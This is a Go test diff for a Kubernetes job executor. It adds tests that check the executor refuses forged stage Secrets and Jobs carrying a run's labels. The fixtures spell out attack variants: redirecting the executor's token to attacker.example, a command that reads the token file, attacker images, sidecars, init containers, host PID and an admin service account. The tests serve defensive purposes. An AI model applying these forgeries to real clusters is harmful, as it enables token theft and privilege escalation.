@@ -2,6 +2,7 @@ package job
 
 import (
 	"context"
+	"strings"
 	"sync"
 	"testing"
 	"time"
@@ -458,5 +459,100 @@ func TestName(t *testing.T) {
 	name, err := e.Start(context.Background(), ex)
 	if err != nil || name != e.Name(ex) {
 		t.Errorf("Start = %q, %v; want Name %q", name, err, e.Name(ex))
+	}
+}
+
+// TestStartForgedSecret is the attack of a tenant who may create Secrets in
+// the run's namespace but not approve: before the apply stage starts, she
+// creates its stage Secret with the run's labels (the run's UID is readable)
+// and a stage.json that sends the executor's token to her server. Start must
+// not adopt it, and no Job may mount it.
+func TestStartForgedSecret(t *testing.T) {
+	ctx := context.Background()
+	ex := planExecution()
+	_, built, err := BuildJob(ex, testOptions())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, forge := range map[string]func(s *corev1.Secret){
+		"another server": func(s *corev1.Secret) {
+			s.Data[StageKey] = []byte(`{"server":"https://attacker.example","stage":"plan","attempt":2}`)
+		},
+		"an extra key": func(s *corev1.Secret) { s.Data["extra"] = []byte("x") },
+		"mutable":      func(s *corev1.Secret) { s.Immutable = nil },
+	} {
+		t.Run(name, func(t *testing.T) {
+			forged := built.DeepCopy()
+			forge(forged)
+			client := fake.NewClientset(forged)
+			_, err := NewExecutor(client, testOptions()).Start(ctx, ex)
+			if err == nil {
+				t.Fatal("Start adopted a forged stage Secret carrying the run's labels")
+			}
+			t.Logf("Start: %v", err)
+			if jobs, _ := client.BatchV1().Jobs("team-a").List(ctx, metav1.ListOptions{}); len(jobs.Items) != 0 {
+				t.Errorf("Start created a Job mounting the forged Secret")
+			}
+			// Nor is it taken for the Secret of a Job that ran and is gone.
+			if st, err := NewExecutor(client, testOptions()).Status(ctx, ex); err != nil || st.Reason != executor.ReasonForged || !strings.Contains(st.Message, "data") && !strings.Contains(st.Message, "immutable") {
+				t.Errorf("Status with a forged stage Secret = %+v, %v; want reason Forged naming the field", st, err)
+			}
+		})
+	}
+}
+
+// TestStartForgedJob is the same attack with a Job: one of the execution's
+// name and labels whose pod runs something else is never adopted.
+func TestStartForgedJob(t *testing.T) {
+	ctx := context.Background()
+	ex := planExecution()
+	builtJob, _, err := BuildJob(ex, testOptions())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, forge := range map[string]func(j *batchv1.Job){
+		"another image": func(j *batchv1.Job) { j.Spec.Template.Spec.Containers[0].Image = "attacker/image" },
+		"another command": func(j *batchv1.Job) {
+			j.Spec.Template.Spec.Containers[0].Command = []string{"sh", "-c", "cat /var/run/terrarun/token/token"}
+		},
+		"args": func(j *batchv1.Job) {
+			j.Spec.Template.Spec.Containers[0].Args = []string{"--server", "https://attacker.example"}
+		},
+		"a sidecar": func(j *batchv1.Job) {
+			j.Spec.Template.Spec.Containers = append(j.Spec.Template.Spec.Containers, corev1.Container{Name: "sidecar", Image: "attacker/image"})
+		},
+		"an init container": func(j *batchv1.Job) {
+			j.Spec.Template.Spec.InitContainers = []corev1.Container{{Name: "init", Image: "attacker/image"}}
+		},
+		"envFrom": func(j *batchv1.Job) {
+			j.Spec.Template.Spec.Containers[0].EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "loot"}}}}
+		},
+		"a postStart hook": func(j *batchv1.Job) {
+			j.Spec.Template.Spec.Containers[0].Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"sh"}}}}
+		},
+		"another stage Secret": func(j *batchv1.Job) {
+			for i := range j.Spec.Template.Spec.Volumes {
+				if s := j.Spec.Template.Spec.Volumes[i].Secret; s != nil {
+					s.SecretName = "forged"
+				}
+			}
+		},
+		"host PID":                func(j *batchv1.Job) { j.Spec.Template.Spec.HostPID = true },
+		"another service account": func(j *batchv1.Job) { j.Spec.Template.Spec.ServiceAccountName = "admin" },
+	} {
+		t.Run(name, func(t *testing.T) {
+			forged := builtJob.DeepCopy()
+			forge(forged)
+			client := fake.NewClientset(forged)
+			e := NewExecutor(client, testOptions())
+			if _, err := e.Start(ctx, ex); err == nil {
+				t.Fatal("Start adopted a forged Job carrying the run's labels")
+			} else {
+				t.Logf("Start: %v", err)
+			}
+			if st, err := e.Status(ctx, ex); err != nil || st.State != executor.StateUnknown || st.Reason != executor.ReasonForged {
+				t.Errorf("Status of a forged Job = %+v, %v; want state Unknown, reason Forged", st, err)
+			}
+		})
 	}
 }
